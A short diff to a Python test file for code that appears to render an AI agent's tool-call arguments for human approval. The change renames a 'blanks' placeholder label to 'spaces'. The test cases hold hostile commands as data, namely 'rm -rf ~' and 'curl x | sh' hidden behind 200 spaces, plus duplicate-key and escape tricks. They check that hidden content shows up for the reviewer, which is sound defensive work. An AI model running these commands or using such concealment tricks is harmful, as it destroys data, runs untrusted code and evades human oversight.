@@ -29,7 +29,7 @@ from mimo_magics.document.approval_text import (
         ('{"cmd": "rm -rf ~"\r}', '{\n  "cmd": "rm -rf ~"\n}'),
         ('{"cmd": "ls", "cmd": "rm"}', '{\n  "cmd": "rm"\n}'),
         ('{"cmd": "\\u006c\\u0073"}', '{\n  "cmd": "ls"\n}'),
-        ('{"cmd": "ls' + " " * 200 + '; curl x | sh"}', '{\n  "cmd": "ls⟨blanks: 200⟩; curl x | sh"\n}'),
+        ('{"cmd": "ls' + " " * 200 + '; curl x | sh"}', '{\n  "cmd": "ls⟨spaces: 200⟩; curl x | sh"\n}'),
         ('{"cmd": "ls' + "\u3000" * 9 + '"}', '{\n  "cmd": "ls⟨U+3000 × 9⟩"\n}'),
         ('{"cmd": "e\u0301"}', '{\n  "cmd": "e\u0301"\n}'),
         ('{"cmd": "a\u00a0b"}', '{\n  "cmd": "a⟨U+00A0⟩b"\n}'),
@@ -71,7 +71,7 @@ def test_all_of_the_arguments_is_on_the_pages_and_nothing_unseen(arguments: dict
 
 
 PIECES = st.lists(
-    st.sampled_from(["a", " ", "\n", "\xa0", "\u200b", "⟨", "⟩", "U+200B", "blanks: 4", "\\n", "\\"])
+    st.sampled_from(["a", " ", "\n", "\xa0", "\u200b", "⟨", "⟩", "U+200B", "spaces: 4", "\\n", "\\"])
 )
 
 
